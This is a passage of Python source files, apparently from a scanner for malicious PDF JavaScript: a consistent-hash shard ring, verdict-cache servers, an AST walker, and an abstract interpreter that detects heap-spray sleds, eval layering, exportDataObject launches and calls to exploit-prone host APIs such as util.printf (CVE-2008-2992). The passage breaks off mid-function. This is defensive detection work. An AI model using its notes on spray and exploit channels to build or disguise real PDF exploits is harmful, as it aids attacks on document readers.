the key) remaps only the dead shard's keys onto its ring successors.
That property is what makes hot respawn cheap: while a shard restarts,
its hash range temporarily overflows to neighbours and snaps back the
moment the shard reports healthy — asserted by the hypothesis suite in
``tests/cluster/test_ring.py``.

Lookups take the *live* shard set as a parameter instead of mutating
the ring: the ring itself is immutable after construction, so routing
stays a pure function of ``(digest, live shards)`` and the router can
consult it lock-free from many request threads.
"""

from __future__ import annotations

import bisect
import hashlib
from typing import Iterable, List, Optional, Sequence, Set, Tuple

#: Virtual points per shard.  64 keeps the ranges balanced to within a
#: few percent for small fleets while construction stays microseconds.
DEFAULT_REPLICAS = 64

#: The ring is the SHA-256 output space.
_RING_BITS = 256


def _point(shard_id: int, replica: int) -> int:
    label = f"shard-{shard_id}-vnode-{replica}".encode("ascii")
    return int.from_bytes(hashlib.sha256(label).digest(), "big")


class HashRing:
    """Immutable consistent-hash ring mapping hex digests to shard ids."""

    def __init__(
        self, shard_ids: Iterable[int], replicas: int = DEFAULT_REPLICAS
    ) -> None:
        if replicas < 1:
            raise ValueError("replicas must be >= 1")
        self.shard_ids: Tuple[int, ...] = tuple(sorted(set(shard_ids)))
        if not self.shard_ids:
            raise ValueError("ring needs at least one shard")
        self.replicas = replicas
        points: List[Tuple[int, int]] = []
        for shard_id in self.shard_ids:
            for replica in range(replicas):
                points.append((_point(shard_id, replica), shard_id))
        points.sort()
        self._points = points
        self._keys = [point for point, _ in points]

    def __len__(self) -> int:
        return len(self.shard_ids)

    @staticmethod
    def key_for(digest: str) -> int:
        """Ring position of a hex SHA-256 digest."""
        value = int(digest, 16)
        if value >> _RING_BITS:
            raise ValueError("digest wider than the ring")
        return value

    def owner(self, digest: str, live: Optional[Set[int]] = None) -> Optional[int]:
        """The live shard owning ``digest``, or None when none are live.

        With every shard live this is the classic successor lookup;
        with some down, the walk continues clockwise past their virtual
        points, which is exactly the "only the dead shard's keys move"
        stability property.
        """
        ordered = self.preference(digest)
        if live is None:
            return ordered[0] if ordered else None
        for shard_id in ordered:
            if shard_id in live:
                return shard_id
        return None

    def preference(self, digest: str) -> List[int]:
        """Every shard, ordered by ring distance from ``digest``.

        The first entry is the primary owner; later entries are the
        successive failover targets a router walks while shards are
        down.  Each shard appears once (its nearest virtual point
        decides its rank).
        """
        key = self.key_for(digest)
        start = bisect.bisect_right(self._keys, key)
        seen: Set[int] = set()
        ordered: List[int] = []
        total = len(self._points)
        for step in range(total):
            _, shard_id = self._points[(start + step) % total]
            if shard_id not in seen:
                seen.add(shard_id)
                ordered.append(shard_id)
                if len(ordered) == len(self.shard_ids):
                    break
        return ordered

    def ranges(self) -> Sequence[Tuple[int, int]]:
        """(point, shard_id) pairs in ring order — for docs/debugging."""
        return tuple(self._points)


__all__ = ["DEFAULT_REPLICAS", "HashRing"]
