"""Shared verdict-cache backends for the scan cluster.

Three :class:`~repro.batch.cache.CacheBackend` implementations cover
the deployment ladder:

* :class:`~repro.batch.cache.VerdictCache` — per-process in-memory LRU
  (optionally snapshotted to JSON at flush time).  Digest affinity in
  the router means each shard's LRU naturally holds exactly its hash
  range, so this is the cluster default.
* :class:`DiskCacheBackend` — write-through JSON: every ``put`` merges
  the file and atomically rewrites it (tmp + rename), so shards on one
  host share verdicts through the filesystem and survive restarts.
  Concurrency model is load-merge-save under last-writer-wins — the
  file is always a valid, fingerprint-checked snapshot, and concurrent
  writers can at worst re-scan a document, never corrupt the store.
* :class:`SocketCacheBackend` — a client for :class:`CacheServer`, the
  framed-JSON TCP server that lets many shards (or many *hosts*) share
  one verdict store.  Every remote answer also feeds a local LRU, so
  when the server dies the shard degrades to its local cache and keeps
  scanning (asserted by the conformance suite's crash test); the
  remote is retried after ``retry_seconds``.

The server checks the client's settings fingerprint on every op: a
shard running a different detector configuration gets misses and its
puts are refused, which is the same "never serve a verdict across
configurations" rule the on-disk format enforces with its header.
"""

from __future__ import annotations

import socket
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Dict, Optional, Tuple, Union

from repro.batch.cache import VerdictCache
from repro.batch.report import VerdictSummary
from repro.cluster.transport import (
    Address,
    TransportError,
    recv_frame,
    request,
    send_frame,
)


class DiskCacheBackend(VerdictCache):
    """Write-through on-disk JSON verdict store.

    The base class persists only on explicit ``save()``; here every
    ``put`` does load-merge-save so sibling processes pointed at the
    same file see each other's verdicts within one scan's latency.
    Reads that miss memory re-load the file once before giving up, so
    a verdict written by another shard is found without restarting.
    """

    def __init__(
        self,
        path: Union[str, Path],
        max_entries: int = 4096,
        fingerprint: str = "",
    ) -> None:
        if path is None:
            raise ValueError("DiskCacheBackend requires a path")
        super().__init__(
            max_entries=max_entries, path=path, fingerprint=fingerprint
        )
        #: Serialises the load-merge-save cycle inside this process;
        #: cross-process writers are last-writer-wins on the rename.
        self._disk_lock = threading.Lock()

    def get(self, digest: str) -> Optional[VerdictSummary]:
        entry = super().get(digest)
        if entry is not None:
            return entry
        # Memory miss: another process may have written the file since
        # our last merge.  load() silently ignores missing/corrupt/
        # mismatched files, so this can only turn a miss into a hit.
        self.load()
        entry = self.peek(digest)
        if entry is not None:
            self.hits += 1
            self.misses -= 1  # undo the miss super().get charged
        return entry

    def put(self, digest: str, summary: VerdictSummary) -> None:
        if summary.errored:
            return
        with self._disk_lock:
            self.load()
            super().put(digest, summary)
            self.save()


# -- socket cache server ------------------------------------------------------

#: Wire ops the cache server understands.
OP_GET = "get"
OP_PUT = "put"
OP_STATS = "stats"
OP_PING = "ping"


class CacheServer:
    """Framed-JSON TCP server sharing one :class:`VerdictCache`.

    Thread-per-connection over the blocking transport — cache ops are
    microseconds of dict work, so the simple model comfortably outruns
    the scan workers that call it.  Run in-process (tests), as a
    router-owned child process (``repro cluster --cache server``) or
    standalone (``repro cache-server``) for multi-host sharing.
    """

    def __init__(
        self,
        cache: Optional[VerdictCache] = None,
        host: str = "127.0.0.1",
        port: int = 0,
        fingerprint: str = "",
    ) -> None:
        self.cache = cache if cache is not None else VerdictCache(
            fingerprint=fingerprint
        )
        self._host = host
        self._port = port
        self._sock: Optional[socket.socket] = None
        self._thread: Optional[threading.Thread] = None
        self._stopped = threading.Event()
        self.rejected_fingerprint = 0
        self._lock = threading.Lock()

    @property
    def address(self) -> Address:
        assert self._sock is not None, "server not started"
        return self._sock.getsockname()[:2]

    def start(self) -> "CacheServer":
        if self._sock is not None:
            return self
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((self._host, self._port))
        sock.listen(64)
        sock.settimeout(0.2)  # so the accept loop notices stop()
        self._sock = sock
        self._thread = threading.Thread(
            target=self._serve, name="repro-cache-server", daemon=True
        )
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stopped.set()
        if self._thread is not None:
            self._thread.join(timeout=5.0)
            self._thread = None
        if self._sock is not None:
            try:
                self._sock.close()
            except OSError:
                pass
            self._sock = None
        self.cache.flush()

    def _serve(self) -> None:
        assert self._sock is not None
        while not self._stopped.is_set():
            try:
                conn, _addr = self._sock.accept()
            except socket.timeout:
                continue
            except OSError:
                break
            threading.Thread(
                target=self._handle, args=(conn,), daemon=True
            ).start()

    def _handle(self, conn: socket.socket) -> None:
        conn.settimeout(10.0)
        try:
            while True:
                try:
                    frame = recv_frame(conn)
                except TransportError:
                    break
                if frame is None:
                    break
                try:
                    reply = self._dispatch(frame)
                except Exception as error:  # noqa: BLE001 - server must stay up
                    reply = {"ok": False, "error": f"{type(error).__name__}: {error}"}
                try:
                    send_frame(conn, reply)
                except TransportError:
                    break
        finally:
            try:
                conn.close()
            except OSError:
                pass

    def _dispatch(self, frame: Dict[str, Any]) -> Dict[str, Any]:
        op = frame.get("op")
        if op == OP_PING:
            return {"ok": True, "entries": len(self.cache)}
        if op == OP_STATS:
            return {"ok": True, "stats": self.cache.stats}
        fingerprint = frame.get("fingerprint", "")
        if fingerprint != self.cache.fingerprint:
            # A different detector configuration: miss on get, refuse
            # on put — verdicts never cross configurations.
            with self._lock:
                self.rejected_fingerprint += 1
            return {"ok": True, "found": False, "stored": False,
                    "reason": "fingerprint-mismatch"}
        digest = frame.get("digest", "")
        if op == OP_GET:
            entry = self.cache.get(digest)
            if entry is None:
                return {"ok": True, "found": False}
            return {"ok": True, "found": True, "entry": entry.to_dict()}
        if op == OP_PUT:
            record = frame.get("entry")
            try:
                summary = VerdictSummary.from_dict(record)
            except (KeyError, TypeError, ValueError) as error:
                return {"ok": False, "error": f"bad entry: {error}"}
            self.cache.put(digest, summary)
            return {"ok": True, "stored": True}
        return {"ok": False, "error": f"unknown op {op!r}"}


def run_cache_server(
    host: str,
    port: int,
    fingerprint: str,
    path: Optional[str] = None,
    ready: Any = None,
) -> None:
    """Process target: serve a verdict cache until SIGTERM.

    ``ready`` is an optional pipe end that receives the bound address
    once listening (the router uses it to learn the ephemeral port).
    """
    import signal

    cache: VerdictCache
    if path:
        cache = DiskCacheBackend(path, fingerprint=fingerprint)
    else:
        cache = VerdictCache(fingerprint=fingerprint)
    server = CacheServer(cache=cache, host=host, port=port)
    server.start()
    if ready is not None:
        ready.send(list(server.address))
        ready.close()
    done = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: done.set())
    signal.signal(signal.SIGINT, lambda *_: done.set())
    done.wait()
    server.stop()


class SocketCacheBackend:
    """Cache-server client with a local LRU and graceful degradation.

    Lookup order: local LRU (free) → remote server (one round trip).
    Remote hits are copied into the local LRU; puts write through to
    both.  A :class:`~repro.cluster.transport.TransportError` flips the
    backend into degraded mode — purely local, scans unaffected — and
    the remote is re-probed after ``retry_seconds``.
    """

    def __init__(
        self,
        address: Address,
        fingerprint: str = "",
        max_entries: int = 4096,
        timeout: float = 2.0,
        retry_seconds: float = 5.0,
    ) -> None:
        self.address = (address[0], int(address[1]))
        self.fingerprint = fingerprint
        self.local = VerdictCache(
            max_entries=max_entries, fingerprint=fingerprint
        )
        self.timeout = timeout
        self.retry_seconds = retry_seconds
        self.path = None  # protocol parity with VerdictCache
        self._lock = threading.Lock()
        self._degraded_until = 0.0
        self.remote_hits = 0
        self.remote_errors = 0

    # -- degradation bookkeeping ------------------------------------------

    def _remote_available(self) -> bool:
        with self._lock:
            return time.monotonic() >= self._degraded_until

    def _note_remote_error(self) -> None:
        with self._lock:
            self.remote_errors += 1
            self._degraded_until = time.monotonic() + self.retry_seconds

    def _call(self, payload: Dict[str, Any]) -> Optional[Dict[str, Any]]:
        if not self._remote_available():
            return None
        try:
            reply = request(self.address, payload, timeout=self.timeout)
        except TransportError:
            self._note_remote_error()
            return None
        if not reply.get("ok"):
            self._note_remote_error()
            return None
        with self._lock:
            self._degraded_until = 0.0
        return reply

    # -- CacheBackend surface ---------------------------------------------

    def get(self, digest: str) -> Optional[VerdictSummary]:
        entry = self.local.get(digest)
        if entry is not None:
            return entry
        reply = self._call({
            "op": OP_GET, "digest": digest, "fingerprint": self.fingerprint,
        })
        if reply is None or not reply.get("found"):
            return None
        try:
            summary = VerdictSummary.from_dict(reply.get("entry"))
        except (KeyError, TypeError, ValueError):
            return None
        with self._lock:
            self.remote_hits += 1
        self.local.put(digest, summary)
        # Correct the local counters: this lookup was a hit overall.
        self.local.misses -= 1
        self.local.hits += 1
        return summary

    def put(self, digest: str, summary: VerdictSummary) -> None:
        if summary.errored:
            return
        self.local.put(digest, summary)
        self._call({
            "op": OP_PUT, "digest": digest, "fingerprint": self.fingerprint,
            "entry": summary.to_dict(),
        })

    @property
    def stats(self) -> Dict[str, Any]:
        out = dict(self.local.stats)
        with self._lock:
            out.update({
                "remote_hits": self.remote_hits,
                "remote_errors": self.remote_errors,
                "degraded": time.monotonic() < self._degraded_until,
            })
        return out

    def flush(self) -> None:
        self.local.flush()

    def close(self) -> None:
        self.flush()

    def save(self) -> None:  # VerdictCache API parity (scanner calls it)
        self.flush()


# -- picklable backend specification -----------------------------------------

#: Backend kinds a :class:`CacheSpec` can name.
KIND_NONE = "none"
KIND_MEMORY = "memory"
KIND_DISK = "disk"
KIND_SERVER = "server"

_KINDS = (KIND_NONE, KIND_MEMORY, KIND_DISK, KIND_SERVER)


@dataclass(frozen=True)
class CacheSpec:
    """Declarative, picklable cache topology for shard configs.

    The router ships one of these to every shard process; the shard
    calls :func:`build_backend` with its settings fingerprint.  For
    ``kind="server"`` with no address, the *router* spawns a cache
    server first and fills the address in, so one flag fans out to the
    whole fleet.
    """

    kind: str = KIND_MEMORY
    path: Optional[str] = None
    address: Optional[Tuple[str, int]] = None
    max_entries: int = 4096

    def __post_init__(self) -> None:
        if self.kind not in _KINDS:
            raise ValueError(f"unknown cache kind {self.kind!r}")
        if self.kind == KIND_DISK and not self.path:
            raise ValueError("disk cache needs a path")


def build_backend(
    spec: CacheSpec, fingerprint: str
) -> Union[VerdictCache, SocketCacheBackend, None, bool]:
    """Materialise a spec into what ``BatchScanner(cache=...)`` accepts."""
    if spec.kind == KIND_NONE:
        return False  # caching *and* dedup off
    if spec.kind == KIND_MEMORY:
        return VerdictCache(
            max_entries=spec.max_entries, fingerprint=fingerprint
        )
    if spec.kind == KIND_DISK:
        assert spec.path is not None
        return DiskCacheBackend(
            spec.path, max_entries=spec.max_entries, fingerprint=fingerprint
        )
    if spec.address is None:
        raise ValueError("server cache spec has no address (router fills it)")
    return SocketCacheBackend(
        spec.address, fingerprint=fingerprint, max_entries=spec.max_entries
    )


__all__ = [
    "CacheServer",
    "CacheSpec",
    "DiskCacheBackend",
    "KIND_DISK",
    "KIND_MEMORY",
    "KIND_NONE",
    "KIND_SERVER",
    "SocketCacheBackend",
    "build_backend",
    "run_cache_server",
]
