"""Generic visitor/walker over the :mod:`repro.js.nodes` AST.

The JS engine's nodes are plain dataclasses, so child discovery is
field introspection: any field value that is a :class:`Node`, a list of
nodes, or a list of tuples containing nodes (``ObjectLiteral.entries``,
``VarDeclaration.declarations``) contributes children.  The walker is
the substrate every lint rule and the constant folder are built on.
"""

from __future__ import annotations

import dataclasses
from typing import Any, Callable, Dict, Iterator, Type

from repro.js.nodes import Node


def iter_child_nodes(node: Node) -> Iterator[Node]:
    """Yield the direct child nodes of ``node`` in field order."""
    if not dataclasses.is_dataclass(node):
        return
    for field in dataclasses.fields(node):
        value = getattr(node, field.name)
        if isinstance(value, Node):
            yield value
        elif isinstance(value, (list, tuple)):
            for item in value:
                if isinstance(item, Node):
                    yield item
                elif isinstance(item, tuple):
                    for element in item:
                        if isinstance(element, Node):
                            yield element


def walk(node: Node) -> Iterator[Node]:
    """Pre-order traversal of ``node`` and every descendant."""
    stack = [node]
    while stack:
        current = stack.pop()
        yield current
        # Reverse so iteration order matches source order.
        stack.extend(reversed(list(iter_child_nodes(current))))


class NodeVisitor:
    """`ast.NodeVisitor`-style dispatch on the concrete node type.

    Subclasses define ``visit_<ClassName>`` methods; unhandled types
    fall through to :meth:`generic_visit`, which recurses into
    children.  A per-class method cache keeps dispatch cheap on the
    hot analysis path.
    """

    def __init__(self) -> None:
        self._dispatch_cache: Dict[Type[Node], Callable[[Node], Any]] = {}

    def visit(self, node: Node) -> Any:
        method = self._dispatch_cache.get(type(node))
        if method is None:
            method = getattr(
                self, f"visit_{type(node).__name__}", self.generic_visit
            )
            self._dispatch_cache[type(node)] = method
        return method(node)

    def generic_visit(self, node: Node) -> Any:
        for child in iter_child_nodes(node):
            self.visit(child)
        return None
