"""Abstract interpreter over the :mod:`repro.js.nodes` AST.

This is the *proof tier* of static triage.  Where :mod:`repro.jsast.fold`
sees through exactly one obfuscation layer and the lint rules pattern-
match, this module runs the whole script abstractly over the value
lattice of :mod:`repro.jsast.lattice`:

* abstract environments map variable names to lattice values, with
  strong updates on assignment and joins at control-flow merges;
* loops run to a widening fixed point (a doubling spray loop converges
  to a ``repeated-unit`` string shape with an interval length instead
  of being unrolled), and canonical ``for (var i = 0; i < N; i++)``
  loops additionally yield a proven trip-count lower bound;
* a fully-constant argument to ``eval`` / ``Function`` /
  ``document.write`` is *peeled*: parsed and analysed as a nested layer
  with the same machinery, to arbitrary depth (budgeted);
* everything the abstraction cannot pin down is *havocked* to ⊤, and
  every call that could reach a scored host API becomes a **channel**
  fact — the absence of channels is what PROVEN-BENIGN means.

The collected facts (:class:`AbsintResult`) are deliberately dumb data;
the proof rules that turn them into verdicts live in
:mod:`repro.jsast.rules_absint`.

Soundness is with respect to the runtime model of :mod:`repro.js`
(host API calls do not throw and do not rebind script variables) and
the scored-API surface of :mod:`repro.jsast.rules`; see
``docs/STATIC_ANALYSIS.md`` for the argument and its boundaries.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Optional, Set, Tuple

from repro.js import nodes as ast
from repro.js.parser import parse
from repro.jsast import lattice as lat
from repro.jsast.fold import js_unescape
from repro.jsast.report import Severity
from repro.jsast.rules import (
    EXPLOIT_CALL_SUFFIXES,
    RULES,
    SIDE_EFFECT_COMPONENTS,
    SIDE_EFFECT_PREFIXES,
    SPRAY_LENGTH_THRESHOLD,
    RuleContext,
    build_context,
    member_path,
    side_effect_apis,
)

#: Default per-script step budget (see ``repro.limits.max_absint_steps``).
DEFAULT_MAX_STEPS = 200_000

#: Deepest eval nesting the interpreter will peel.
MAX_EVAL_DEPTH = 12

#: Join iterations before widening kicks in.
_MAX_JOIN_ITERS = 3

#: Longest exact string the interpreter materialises (mirrors
#: ``fold.MAX_FOLD_CHARS``); beyond it values generalise to shapes.
MAX_EXACT_CHARS = 1 << 20

#: Callees that are pure value constructors/converters — calling them
#: reaches no scored host API and rebinds nothing.
PURE_CALLEES: Tuple[str, ...] = (
    "unescape",
    "escape",
    "parseInt",
    "parseFloat",
    "isNaN",
    "isFinite",
    "String",
    "Number",
    "Boolean",
    "Array",
    "Object",
    "RegExp",
    "Date",
    "Math",
)

#: Member-method names that re-feed code into execution.
_EVAL_METHODS = ("eval",)
_WRITE_METHODS = ("write", "writeln")

#: Host APIs provably off the scored feature surface (no syscall
#: category, no code staging, no scored side effect): calling them
#: does not block a PROVEN-BENIGN verdict.  Deliberately tiny —
#: ``util.printf`` is *not* here (CVE-2008-2992 reaches the exploit
#: through it even though the call itself is unscored).
HARMLESS_HOST_APIS: Tuple[str, ...] = (
    "app.alert",
    "app.beep",
    "console.println",
    "console.show",
    "console.hide",
    "console.clear",
    "util.printd",
    "getField",  # ``this.`` is stripped by member_path
)

#: Channel kinds.
CHANNEL_EXPLOIT = "exploit-api"
CHANNEL_SIDE_EFFECT = "side-effect"
CHANNEL_OPAQUE_CALL = "opaque-call"
CHANNEL_OPAQUE_EVAL = "opaque-eval"


class AbsintBudgetExceeded(Exception):
    """The abstract interpretation step budget ran out."""


class _Budget:
    __slots__ = ("steps", "limit")

    def __init__(self, limit: int) -> None:
        self.steps = 0
        self.limit = limit

    def tick(self, amount: int = 1) -> None:
        self.steps += amount
        if self.steps > self.limit:
            raise AbsintBudgetExceeded(
                f"absint budget exhausted ({self.limit} steps)"
            )


# ---------------------------------------------------------------------------
# Facts


@dataclass(frozen=True)
class ChannelFact:
    """A call site that may reach a scored host API."""

    kind: str
    path: str
    layer: int

    def to_dict(self) -> Dict[str, Any]:
        return {"kind": self.kind, "path": self.path, "layer": self.layer}


@dataclass(frozen=True)
class SprayFill:
    """An in-loop array fill with a proven sled payload lower bound."""

    array: str
    layer: int
    unit: str
    elem_len_lo: int
    sled_lo: int
    trip_lo: int
    #: 2 bytes per JS character × element length × trip count.
    bytes_lo: int
    must: bool

    def to_dict(self) -> Dict[str, Any]:
        return {
            "array": self.array,
            "layer": self.layer,
            "unit": self.unit,
            "elem_len_lo": self.elem_len_lo,
            "sled_lo": self.sled_lo,
            "trip_lo": self.trip_lo,
            "bytes_lo": self.bytes_lo,
            "must": self.must,
        }


@dataclass(frozen=True)
class SledFact:
    """A variable proven to hold ≥ ``lo`` sled characters at layer end."""

    var: str
    layer: int
    unit: str
    lo: int
    must: bool

    def to_dict(self) -> Dict[str, Any]:
        return {
            "var": self.var,
            "layer": self.layer,
            "unit": self.unit,
            "lo": self.lo,
            "must": self.must,
        }


@dataclass(frozen=True)
class ExportFact:
    """An ``exportDataObject`` call with abstractly-resolved arguments."""

    path: str
    layer: int
    launch: Optional[float]
    name: Optional[str]
    must: bool

    def to_dict(self) -> Dict[str, Any]:
        return {
            "path": self.path,
            "layer": self.layer,
            "launch": self.launch,
            "name": self.name,
            "must": self.must,
        }


@dataclass
class EvalLayer:
    """One analysed script layer (the document script or a peeled eval)."""

    label: str
    depth: int
    must: bool
    parse_error: Optional[str] = None
    #: SUSPICIOUS+ classic rules other than ``eval-computed-string``.
    blocking_rules: List[str] = field(default_factory=list)
    side_effect_apis: List[str] = field(default_factory=list)

    def to_dict(self) -> Dict[str, Any]:
        return {
            "label": self.label,
            "depth": self.depth,
            "must": self.must,
            "parse_error": self.parse_error,
            "blocking_rules": list(self.blocking_rules),
            "side_effect_apis": list(self.side_effect_apis),
        }


@dataclass
class AbsintResult:
    """Everything abstract interpretation learned about one script."""

    status: str = "ok"  # ok | budget-exhausted | error
    steps: int = 0
    layers: List[EvalLayer] = field(default_factory=list)
    channels: List[ChannelFact] = field(default_factory=list)
    fills: List[SprayFill] = field(default_factory=list)
    sleds: List[SledFact] = field(default_factory=list)
    exports: List[ExportFact] = field(default_factory=list)
    env_summary: Dict[str, str] = field(default_factory=dict)
    error: Optional[str] = None

    @property
    def max_depth(self) -> int:
        return max((layer.depth for layer in self.layers), default=0)

    def to_dict(self) -> Dict[str, Any]:
        return {
            "status": self.status,
            "steps": self.steps,
            "layers": [layer.to_dict() for layer in self.layers],
            "channels": [c.to_dict() for c in self.channels],
            "fills": [f.to_dict() for f in self.fills],
            "sleds": [s.to_dict() for s in self.sleds],
            "exports": [e.to_dict() for e in self.exports],
            "env_summary": dict(self.env_summary),
            "error": self.error,
        }


# ---------------------------------------------------------------------------
# Small AST helpers (scope/effect prescans)


def _is_function(node: ast.Node) -> bool:
    return isinstance(node, (ast.FunctionDeclaration, ast.FunctionExpression))


def _walk_no_functions(node: ast.Node):
    """Pre-order walk that does not descend into function bodies."""
    stack: List[ast.Node] = [node]
    while stack:
        current = stack.pop()
        yield current
        if _is_function(current):
            continue
        from repro.jsast.walk import iter_child_nodes

        stack.extend(reversed(list(iter_child_nodes(current))))


def _written_names(node: Optional[ast.Node]) -> Set[str]:
    """Names a subtree may (re)bind, excluding function-body internals."""
    out: Set[str] = set()
    if node is None:
        return out
    for current in _walk_no_functions(node):
        if isinstance(current, ast.AssignmentExpression):
            if isinstance(current.target, ast.Identifier):
                out.add(current.target.name)
        elif isinstance(current, ast.UpdateExpression):
            if isinstance(current.operand, ast.Identifier):
                out.add(current.operand.name)
        elif isinstance(current, ast.VarDeclaration):
            out.update(name for name, _init in current.declarations)
        elif isinstance(current, ast.ForInStatement):
            target = current.target
            if isinstance(target, ast.Identifier):
                out.add(target.name)
            elif isinstance(target, ast.VarDeclaration):
                out.update(name for name, _init in target.declarations)
        elif isinstance(current, ast.FunctionDeclaration):
            out.add(current.name)
    return out


def _expr_names(node: ast.Node) -> Set[str]:
    """Identifiers an expression reads (function bodies excluded)."""
    return {
        current.name
        for current in _walk_no_functions(node)
        if isinstance(current, ast.Identifier)
    }


def _scope_declared(body: ast.Node) -> Tuple[Set[str], Set[str]]:
    """``(var_names, function_names)`` declared in one scope body,
    not descending into nested function bodies."""
    var_names: Set[str] = set()
    func_names: Set[str] = set()
    for current in _walk_no_functions(body):
        if isinstance(current, ast.VarDeclaration):
            var_names.update(name for name, _init in current.declarations)
        elif isinstance(current, ast.ForInStatement):
            if isinstance(current.target, ast.Identifier):
                var_names.add(current.target.name)
        elif isinstance(current, ast.FunctionDeclaration):
            func_names.add(current.name)
    return var_names, func_names


def _contains_abrupt(node: ast.Node) -> bool:
    """Break/continue/return/throw anywhere in the subtree (functions
    excluded) — disables trip bounds and exit refinement."""
    for current in _walk_no_functions(node):
        if isinstance(
            current,
            (
                ast.BreakStatement,
                ast.ContinueStatement,
                ast.ReturnStatement,
                ast.ThrowStatement,
            ),
        ):
            return True
    return False


def _may_abort(program: ast.Program) -> bool:
    """Could running this layer raise out of it?  Conservative: any
    ``throw`` outside function bodies counts, caught or not."""
    return any(
        isinstance(current, ast.ThrowStatement)
        for current in _walk_no_functions(program)
    )


def _function_effects(program: ast.Program) -> Tuple[Set[str], bool, bool]:
    """``(written, has_eval, has_throw)`` aggregated over every function
    body in the layer — the havoc set for opaque user-function calls."""
    written: Set[str] = set()
    has_eval = False
    has_throw = False
    from repro.jsast.walk import walk

    for node in walk(program):
        if not _is_function(node):
            continue
        for current in walk(node.body):
            if isinstance(current, ast.AssignmentExpression):
                if isinstance(current.target, ast.Identifier):
                    written.add(current.target.name)
            elif isinstance(current, ast.UpdateExpression):
                if isinstance(current.operand, ast.Identifier):
                    written.add(current.operand.name)
            elif isinstance(current, ast.VarDeclaration):
                written.update(name for name, _init in current.declarations)
            elif isinstance(current, ast.ThrowStatement):
                has_throw = True
            elif isinstance(current, ast.CallExpression):
                callee = current.callee
                if isinstance(callee, ast.Identifier) and callee.name in (
                    "eval",
                    "Function",
                ):
                    has_eval = True
                elif isinstance(callee, ast.MemberExpression) and isinstance(
                    callee.prop, ast.Identifier
                ):
                    if callee.prop.name in _EVAL_METHODS + _WRITE_METHODS:
                        has_eval = True
    return written, has_eval, has_throw


def _truthiness(value: lat.AbsValue) -> Optional[bool]:
    """JS truthiness when abstractly decidable, else ``None``."""
    if isinstance(value, lat.AbsConst):
        v = value.value
        if isinstance(v, float) and v != v:  # NaN
            return False
        if isinstance(v, str):
            return bool(v)
        return bool(v)
    rng = lat.number_range(value)
    if rng is not None:
        if rng.lo is not None and rng.lo > 0:
            return True
        if rng.hi is not None and rng.hi < 0:
            return True
        if rng.exact_value == 0.0:
            return False
    return None


def _join_env(
    a: Dict[str, lat.AbsValue], b: Dict[str, lat.AbsValue]
) -> Dict[str, lat.AbsValue]:
    """Pointwise join; a name missing on either side is ⊤ (dropped)."""
    out: Dict[str, lat.AbsValue] = {}
    for name, value in a.items():
        other = b.get(name)
        if other is None:
            continue
        joined = lat.join_value(value, other)
        if joined is not lat.TOP:
            out[name] = joined
    return out


def _widen_env(
    a: Dict[str, lat.AbsValue], b: Dict[str, lat.AbsValue]
) -> Dict[str, lat.AbsValue]:
    out: Dict[str, lat.AbsValue] = {}
    for name, value in a.items():
        other = b.get(name)
        if other is None:
            continue
        widened = lat.widen_value(value, other)
        if widened is not lat.TOP:
            out[name] = widened
    return out


def _describe(value: lat.AbsValue) -> str:
    if isinstance(value, lat.AbsConst):
        if isinstance(value.value, str):
            return f"const-str[{len(value.value)}]"
        return f"const:{value.value!r}"
    if isinstance(value, lat.AbsStr):
        return value.describe()
    if isinstance(value, lat.AbsNum):
        lo = "-∞" if value.range.lo is None else str(int(value.range.lo))
        hi = "∞" if value.range.hi is None else str(int(value.range.hi))
        return f"num[{lo}..{hi}]"
    if isinstance(value, lat.AbsFunc):
        return "function"
    if value is lat.LOCAL_OBJ:
        return "object"
    return "⊤"


# ---------------------------------------------------------------------------
# Engine: shared budget + fact sinks + layer recursion


class _Engine:
    def __init__(self, budget: _Budget) -> None:
        self.budget = budget
        self.result = AbsintResult()
        #: Node ids of eval/export sites already processed by an interp.
        self.handled_evals: Set[int] = set()
        self.handled_exports: Set[int] = set()
        self._channel_keys: Set[Tuple[str, str, int]] = set()

    def channel(self, kind: str, path: str, layer: int) -> None:
        key = (kind, path, layer)
        if key not in self._channel_keys:
            self._channel_keys.add(key)
            self.result.channels.append(ChannelFact(kind, path, layer))

    def analyze_layer(
        self, code: str, depth: int, must: bool, label: str
    ) -> Tuple[Optional[Set[str]], bool]:
        """Parse and abstractly run one script layer.

        Returns ``(written_names, may_abort)``; ``written_names`` is
        ``None`` when the caller must havoc everything (depth cap).
        """
        self.budget.tick(max(1, len(code) // 32))
        if depth > MAX_EVAL_DEPTH:
            self.channel(
                CHANNEL_OPAQUE_EVAL, f"eval-depth>{MAX_EVAL_DEPTH}", depth
            )
            return None, True
        layer = EvalLayer(label=label, depth=depth, must=must)
        self.result.layers.append(layer)
        try:
            program = parse(code)
        except Exception as exc:  # noqa: BLE001 - fail-open per layer
            layer.parse_error = f"{type(exc).__name__}: {exc}"
            # A syntax error in eval'd code throws at runtime: the code
            # never runs (no writes) and the caller may abort.
            return set(), True
        ctx = self._classic_scan(code, program, layer)

        interp = _Interp(self, program, depth, label)
        interp.must = must
        interp.run()

        walker = _ChannelWalker(self, interp, program, depth, label, ctx)
        walker.run()

        for name in sorted(interp.env):
            value = interp.env[name]
            sled_lo = lat.sled_prefix_of(value).lo or 0.0
            if sled_lo >= SPRAY_LENGTH_THRESHOLD:
                self.result.sleds.append(
                    SledFact(
                        var=name,
                        layer=depth,
                        unit=lat.sled_unit_of(value) or "",
                        lo=int(sled_lo),
                        must=must and interp.must_now,
                    )
                )
        if depth == 0:
            self.result.env_summary = {
                name: _describe(value)
                for name, value in sorted(interp.env.items())
            }
        return interp.written, interp.aborted or _may_abort(program)

    def _classic_scan(
        self, code: str, program: ast.Program, layer: EvalLayer
    ) -> Optional[RuleContext]:
        """Run the classic rule registry over the layer, recording the
        SUSPICIOUS+ rules that block a benign proof.

        ``eval-computed-string`` is excluded: the interpreter supersedes
        it by peeling const layers itself and channeling opaque ones.
        """
        try:
            ctx = build_context(code, program)
        except Exception:  # noqa: BLE001 - fail-open
            layer.blocking_rules.append("analysis-error")
            return None
        for rule_id, rule_fn in RULES.items():
            try:
                findings = list(rule_fn(ctx))
            except Exception:  # noqa: BLE001 - one broken rule
                if "analysis-error" not in layer.blocking_rules:
                    layer.blocking_rules.append("analysis-error")
                continue
            for finding in findings:
                if (
                    finding.severity >= Severity.SUSPICIOUS
